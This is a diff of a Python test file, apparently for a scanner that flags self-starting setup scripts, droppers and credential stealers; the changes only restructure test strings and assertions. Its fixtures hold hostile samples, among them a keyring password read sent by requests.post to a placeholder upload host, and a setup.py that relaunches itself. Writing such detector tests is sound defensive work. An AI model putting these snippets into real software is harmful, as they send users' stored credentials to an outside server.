@@ -40,7 +40,8 @@ def test_words_that_only_its_own_people_type(asked: str, before: str, severity: 
 
 
 def test_a_setup_that_starts_itself_with_such_a_word() -> None:
-    started = "import subprocess\nif len(sys.argv) < 2:\n    subprocess.run([sys.executable, 'setup.py', 'go1'])\n"
+    again = "subprocess.run([sys.executable, 'setup.py', 'go1'])"
+    started = f"import subprocess\nif len(sys.argv) < 2:\n    {again}\n"
     text = WORDS.format(asked="sys.argv[1] == 'go1'", before=started, run=RUN)
     assert worst_of("attack-command", built(text)) is Severity.CRITICAL
 
@@ -190,7 +191,8 @@ def load(url):
 )
 def test_a_caller_names_what_is_fetched_and_run(then: str, severity: Severity) -> None:
     found = worst("dropper", PRELOAD.format(then=then))
-    assert found is not None and found >= severity
+    assert found is not None
+    assert found >= severity
     assert severity is not Severity.LOW or found is severity
 
 
@@ -221,7 +223,12 @@ def test_a_public_key_is_there_to_be_shown(path: str, told: bool) -> None:
     assert (worst("stealer", text) is not None) is told
 
 
-KEPT = "import keyring, requests\ndef send(name):\n    word = keyring.get_password('{service}', name)\n{post}\n"
+KEPT = """
+import keyring, requests
+def send(name):
+    word = keyring.get_password('{service}', name)
+{post}
+"""
 POST = "    requests.post('https://a.example.invalid/upload', auth=(name, word))"
 
 
